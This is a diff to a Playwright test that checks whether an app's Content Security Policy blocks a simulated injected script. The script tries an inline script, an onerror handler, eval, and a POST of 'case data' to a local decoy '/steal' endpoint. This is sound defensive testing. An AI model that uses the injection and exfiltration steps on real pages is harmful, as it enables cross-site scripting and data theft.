@@ -24,6 +24,64 @@ test.afterAll(async () => {
   await new Promise<void>((ok) => decoy.close(() => ok()));
 });
 
+type Outcome = {
+  inlineRan: boolean;
+  handlerRan: boolean;
+  evalResult: string;
+  functionResult: string;
+  fetchResult: string;
+  directives: string[];
+};
+
+/**
+ * What an injected script would try, as page code (a string: it runs in Chromium, not under the
+ * Node types of this project). eval and new Function run from a timer, i.e. as the page's own
+ * code: DevTools' Runtime.evaluate, which page.evaluate uses, is exempt from the eval check.
+ */
+function attackScript(url: string): string {
+  return `(async () => {
+    const seen = [];
+    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+
+    // 1. An inline <script>, as markup injected through a note or a name would create it.
+    const script = document.createElement('script');
+    script.textContent = 'window.__inlineRan = true;';
+    document.body.appendChild(script);
+
+    // 2. An inline event handler.
+    const img = document.createElement('img');
+    img.setAttribute('onerror', 'window.__handlerRan = true;');
+    img.src = 'data:image/png;base64,broken';
+    document.body.appendChild(img);
+
+    // 3. eval and the Function constructor.
+    const codegen = await new Promise((done) => setTimeout(() => {
+      let evalResult = 'ran';
+      try { (0, eval)('1 + 1'); } catch (e) { evalResult = e.name; }
+      let functionResult = 'ran';
+      try { new Function('return 1')(); } catch (e) { functionResult = e.name; }
+      done({ evalResult, functionResult });
+    }, 0));
+
+    // 4. A fetch to another origin.
+    let fetchResult = 'sent';
+    try {
+      await fetch(${JSON.stringify(url)}, { method: 'POST', body: 'case data', mode: 'no-cors' });
+    } catch (e) {
+      fetchResult = e.name;
+    }
+
+    await new Promise((r) => setTimeout(r, 300));
+    return {
+      inlineRan: window.__inlineRan === true,
+      handlerRan: window.__handlerRan === true,
+      ...codegen,
+      fetchResult,
+      directives: seen,
+    };
+  })()`;
+}
+
 test('the CSP blocks an injected inline script, eval and a cross-origin fetch', async ({
   page,
   session,
@@ -38,62 +96,7 @@ test('the CSP blocks an injected inline script, eval and a cross-origin fetch', 
   await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
   const decoyUrl = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}/steal`;
 
-  const outcome = await page.evaluate(async (url) => {
-    const seen: string[] = [];
-    document.addEventListener('securitypolicyviolation', (e) => {
-      seen.push(e.effectiveDirective);
-    });
-    const w = window as unknown as Record<string, unknown>;
-
-    // 1. An inline <script>, as markup injected through a note or a name would create it.
-    const script = document.createElement('script');
-    script.textContent = 'window.__inlineRan = true;';
-    document.body.appendChild(script);
-
-    // 2. An inline event handler.
-    const img = document.createElement('img');
-    img.setAttribute('onerror', 'window.__handlerRan = true;');
-    img.src = 'data:image/png;base64,broken';
-    document.body.appendChild(img);
-
-    // 3. eval and the Function constructor. Run from a timer, i.e. as the page's own code:
-    // DevTools' Runtime.evaluate (which page.evaluate uses) is exempt from the eval check.
-    const codegen = await new Promise<{ evalResult: string; functionResult: string }>((done) => {
-      setTimeout(() => {
-        let evalResult = 'ran';
-        try {
-          (0, eval)('1 + 1');
-        } catch (e) {
-          evalResult = (e as Error).name;
-        }
-        let functionResult = 'ran';
-        try {
-          // eslint-disable-next-line @typescript-eslint/no-implied-eval
-          new Function('return 1')();
-        } catch (e) {
-          functionResult = (e as Error).name;
-        }
-        done({ evalResult, functionResult });
-      }, 0);
-    });
-
-    // 4. A fetch to another origin.
-    let fetchResult = 'sent';
-    try {
-      await fetch(url, { method: 'POST', body: 'case data', mode: 'no-cors' });
-    } catch (e) {
-      fetchResult = (e as Error).name;
-    }
-
-    await new Promise((r) => setTimeout(r, 300));
-    return {
-      inlineRan: w['__inlineRan'] === true,
-      handlerRan: w['__handlerRan'] === true,
-      ...codegen,
-      fetchResult,
-      directives: seen,
-    };
-  }, decoyUrl);
+  const outcome = await page.evaluate<Outcome>(attackScript(decoyUrl));
 
   console.log(
     `[R-electron] CSP in Chromium: inline script ran=${outcome.inlineRan}, inline handler ran=` +
